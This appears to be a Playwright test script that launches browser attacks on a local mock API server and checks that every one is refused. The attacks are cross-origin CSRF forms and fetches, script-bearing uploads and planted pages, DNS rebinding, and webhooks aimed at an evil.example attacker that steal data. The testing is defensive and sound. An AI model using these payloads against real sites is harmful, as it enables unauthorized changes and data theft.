// Runs attacks of web pages on the server at 127.0.0.1:PORT, and prints a line for each result:
//
//   node attacks.mjs PORT
//
// Exit code 1 if an attack succeeded, or one of the server's own pages did not work.

import assert from "node:assert/strict";

import { chromium } from "playwright-core";

import { startAttacker, thief } from "./attacker.mjs";
import { presign } from "./presign.mjs";

const port = process.argv[2];
const direct = `http://127.0.0.1:${port}`;
// Browsers send Sec-Fetch-Site to the first two only: the third is not a potentially trustworthy origin.
const origins = [direct, `http://localhost:${port}`, `http://mock.test:${port}`];
const attacker = await startAttacker();
const browser = await chromium.launch({
  executablePath: "/usr/bin/chromium",
  args: [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--no-proxy-server",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--host-resolver-rules=MAP evil.test 127.0.0.1, MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1, MAP mock.test 127.0.0.1",
  ],
});

let failures = 0;

/** Runs one attack on a new page, and prints the result. */
async function attempt(name, run) {
  const page = await browser.newPage();
  try {
    await resetState();
    const result = await run(page);
    await assertState();
    console.log(`ok      ${name}: ${result}`);
  } catch (error) {
    failures += 1;
    console.log(`FAILED  ${name}: ${error.message}`);
  } finally {
    await page.close();
  }
}

async function call(method, path, body) {
  const text = body === undefined ? undefined : JSON.stringify(body);
  const response = await fetch(`${direct}${path}`, { method, body: text });
  const content = await response.text();
  assert.ok(response.ok, `${method} ${path}: ${response.status} ${content}`);
  return content === "" ? null : JSON.parse(content);
}

/** Sets the state that no attack may change: one account, no rules. */
async function resetState() {
  await call("POST", "/_mock/reset");
  await call("PUT", "/_mock/accounts/secret-key", { plan: "pro" });
  attacker.stolen.length = 0;
}

async function assertState() {
  const { accounts } = await call("GET", "/_mock/accounts");
  assert.deepEqual(accounts.map(({ key, plan }) => `${key} ${plan}`), ["secret-key pro"], "the accounts changed");
  const { rules } = await call("GET", "/_mock/rules");
  assert.deepEqual(rules, [], "a rule was planted");
  assert.deepEqual(attacker.stolen, [], "the attacker received data");
}

/** Returns the number of requests that the server refused for that reason. It shows whether an attack arrived. */
async function refusals(reason) {
  const page = await (await fetch(`${direct}/_mock/metrics`)).text();
  const pattern = new RegExp(`^stuntdouble_http_requests_total\\{operation="${reason}",.*\\} (\\d+)$`, "m");
  return Number(pattern.exec(page)?.[1] ?? 0);
}

/** Runs an attack that must be refused for that reason. */
async function refused(reason, run) {
  const before = await refusals(reason);
  await run();
  await assertState();
  const count = await refusals(reason) - before;
  assert.ok(count > 0, `no request was refused as ${reason}`);
  return `${count} refused as ${reason}, state intact`;
}

const open = (page, path = "/") => page.goto(`${attacker.origin}${path}`);

const planted = (html) => ({
  when: { path: "/planted" },
  then: { respond: { status: 200, headers: { "content-type": "text/html", "content-security-policy": "sandbox allow-scripts allow-same-origin" }, body: html } },
});

for (const origin of origins) {
  await attempt(`reset by a form of another origin, ${origin}`, (page) => refused("cross_origin", async () => {
    const form = `<form method="post" enctype="text/plain" action="${origin}/_mock/reset"><input name="{}"></form>
      <script>document.forms[0].submit()</script>`;
    attacker.pages.set("/form", form);
    const response = page.waitForResponse((it) => it.url().endsWith("/_mock/reset"));
    await open(page, "/form");
    assert.equal((await response).status(), 403);
  }));

  await attempt(`reset by fetch, no-cors and text/plain, ${origin}`, (page) => refused("cross_origin", async () => {
    await open(page);
    await page.evaluate((url) => fetch(url, {
      method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": "text/plain" }, body: "{}",
    }), `${origin}/_mock/reset`);
  }));

  await attempt(`reset by a form without a referrer (Origin: null), ${origin}`, (page) => refused("cross_origin", async () => {
    const form = `<iframe sandbox="allow-scripts allow-forms allow-top-navigation" srcdoc='
      <form method="post" target="_top" enctype="text/plain" action="${origin}/_mock/reset"></form>
      <script>document.forms[0].submit()</script>'></iframe>`;
    attacker.pages.set("/null", form);
    const response = page.waitForResponse((it) => it.url().endsWith("/_mock/reset"));
    await open(page, "/null");
    assert.equal((await response).status(), 403);
  }));

  await attempt(`rule planted from another origin, ${origin}`, (page) => refused("cross_origin", async () => {
    await open(page);
    const rule = JSON.stringify(planted("<script>alert(1)</script>"));
    await page.evaluate(([url, body]) => fetch(url, { method: "POST", mode: "no-cors", body }), [`${origin}/_mock/rules`, rule]);
  }));

  await attempt(`accounts read from another origin, ${origin}`, async (page) => {
    await open(page);
    const read = await page.evaluate((url) => fetch(url).then((it) => it.text(), () => "blocked"), `${origin}/_mock/accounts`);
    assert.equal(read, "blocked");
    return "no CORS, nothing read";
  });

  for (const path of ["/docs", "/_mock/accounts"]) {
    await attempt(`${path} in a frame of another origin, ${origin}`, async (page) => {
      attacker.pages.set("/frame", `<iframe src="${origin}${path}"></iframe>`);
      const blocked = page.waitForEvent("requestfailed", { predicate: (request) => request.url() === `${origin}${path}` });
      await open(page, "/frame");
      assert.equal((await blocked).failure().errorText, "net::ERR_BLOCKED_BY_RESPONSE");
      return "not shown";
    });
  }

  await attempt(`script of a rule opened on the server's origin, ${origin}`, async (page) => {
    await call("POST", "/_mock/rules", planted(`<title>planted</title><script>${thief(attacker)}</script>`));
    const response = await page.goto(`${origin}/planted`);
    assert.equal(response.status(), 200);
    await call("DELETE", "/_mock/rules");
    return "shown, no script ran";
  });

  for (const [name, type, content] of [
    ["page.html", "text/html", `<script>${thief(attacker)}</script>`],
    ["picture.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${thief(attacker)}]]></script></svg>`],
    ["page.xhtml", "application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml"><script><![CDATA[${thief(attacker)}]]></script></html>`],
    ["unknown", "", `<html><script>${thief(attacker)}</script></html>`],
  ]) {
    await attempt(`script of an upload opened on the server's origin, ${name}, ${origin}`, async (page) => {
      await open(page);
      // Storage accepts uploads from any origin, as S3 does if it is configured so.
      const put = presign("PUT", origin, "bizmori", name);
      const status = await page.evaluate(([url, body, headers]) =>
        fetch(url, { method: "PUT", body: new Blob([body]), headers }).then((it) => it.status),
      [put, content, type === "" ? {} : { "content-type": type }]);
      assert.equal(status, 200);
      const shown = await page.goto(presign("GET", origin, "bizmori", name)).catch((error) => {
        // A browser downloads what it does not show.
        assert.match(error.message, /Download is starting/);
        return null;
      });
      assert.ok(shown === null || shown.status() === 200);
      return shown === null ? "downloaded" : "shown, no script ran";
    });
  }
}

await attempt("DNS rebinding: a page whose host leads to the server", (page) => refused("unknown_host", async () => {
  const rebound = `http://rebound.example:${port}`;
  // The name already leads to the server. The script below stands for the script of a page that the attacker
  // served under this name before. It has the origin of a vendor's response, which any host gets.
  const response = await page.goto(`${rebound}/openapi.json`);
  assert.equal(response.status(), 200);
  const statuses = await page.evaluate(async (rule) => {
    const status = (path, options) => fetch(path, options).then((it) => it.status);
    return [
      await status("/_mock/accounts"),
      await status("/_mock/reset", { method: "POST" }),
      await status("/_mock/rules", { method: "POST", body: rule }),
      await status("/_mock/accounts/secret-key", { method: "DELETE" }),
      await status("/docs"),
    ];
  }, JSON.stringify(planted("x")));
  assert.deepEqual(statuses, [421, 421, 421, 421, 421]);
}));

for (const origin of origins) {
  await attempt(`the server's own page, ${origin}`, async (page) => {
    const broken = [];
    page.on("pageerror", (error) => broken.push(error.message));
    await page.goto(`${origin}/docs`);
    await page.waitForSelector(".swagger-ui .opblock");
    const [read, set, removed] = await page.evaluate(async () => {
      const status = (path, options) => fetch(path, options).then((it) => it.status);
      return [
        await status("/_mock/accounts"),
        await status("/_mock/accounts/own", { method: "PUT", body: "{}" }),
        await status("/_mock/accounts/own", { method: "DELETE" }),
      ];
    });
    assert.deepEqual([read, set, removed, ...broken], [200, 200, 204]);
    return "shows the documentation, reads and changes state";
  });
}

const attackerPort = new URL(attacker.origin).port;
/** Pages of local hosts, such as evil.test, may call BIZ MORI's API. Pages of the internet may not. */
const localPage = `http://localhost:${attackerPort}`;
const foreignPage = `http://evil.example:${attackerPort}`;

/** Creates, uploads, confirms and reads an order of BIZ MORI. Runs in a page. */
async function takeOrder(api) {
  const headers = { authorization: "Bearer secret-key", "content-type": "application/json" };
  const call = async (path, options) => {
    const response = await fetch(`${api}${path}`, { headers, ...options });
    const reason = response.headers.get("x-mock-reason");
    return { status: response.status, body: await response.json(), reason };
  };
  const post = (path, body) => call(path, { method: "POST", body: JSON.stringify(body) });
  const orders = "/api/v2/orders";
  const created = await post(`${orders}/ai-detection`, { idempotencyKey: String(Math.random()), fileName: "page_ai.jpg" });
  const { orderId, file } = created.body.data;
  const put = await fetch(file.uploadUrl, { method: "PUT", body: new Blob(["picture"]) });
  const confirmed = await post(`${orders}/ai-detection/confirm`, { idempotencyKey: "confirm", orderId });
  const read = await call(`${orders}/${orderId}`);
  const missing = await call("/api/v3/orders/1");
  const webhook = await post(`${orders}/webhooks`, { url: "http://127.0.0.1:1/" });
  const hook = `${orders}/webhooks/${webhook.body.data.id}`;
  const changed = await call(hook, { method: "PUT", body: JSON.stringify({ url: "http://127.0.0.1:2/" }) });
  const removed = await call(hook, { method: "DELETE" });
  const responses = [created, put, confirmed, read, missing, webhook, changed, removed];
  return { statuses: responses.map(({ status }) => status), name: read.body.data.orderName, reason: missing.reason };
}

for (const origin of [direct, `http://localhost:${port}`]) {
  await attempt(`an order made by a page of another local origin, ${origin}`, async (page) => {
    await page.goto(localPage);
    const { statuses, name, reason } = await page.evaluate(takeOrder, origin);
    assert.deepEqual(statuses, [200, 200, 200, 200, 404, 200, 200, 200]);
    assert.match(name, /^ai_detection_/);
    assert.equal(reason, "order 1 not found");
    return "created, uploaded, confirmed and read";
  });

  await attempt(`an order read by a page of the internet, ${origin}`, (page) => refused("forbidden_origin", async () => {
    await page.goto(foreignPage);
    const read = (url, options) => page.evaluate(([url, options]) =>
      fetch(url, options).then((it) => it.text(), () => "blocked"), [url, options]);
    const authorization = { headers: { authorization: "Bearer secret-key" } };
    assert.equal(await read(`${origin}/api/v2/orders`, authorization), "blocked");
    assert.equal(await read(`${origin}/api/v2/orders`), "blocked");
    const body = JSON.stringify({ url: `${attacker.origin}/stolen` });
    const post = { method: "POST", headers: { ...authorization.headers, "content-type": "application/json" }, body };
    assert.equal(await read(`${origin}/api/v2/orders/webhooks`, post), "blocked");
    const response = await fetch(`${direct}/api/v2/orders/webhooks`, authorization);
    assert.deepEqual((await response.json()).data.webhooks, [], "a webhook was created");
  }));
}

await browser.close();
attacker.stop();
console.log(failures === 0 ? "every attack failed, and the server's own pages work" : `${failures} failed`);
process.exitCode = failures === 0 ? 0 : 1;
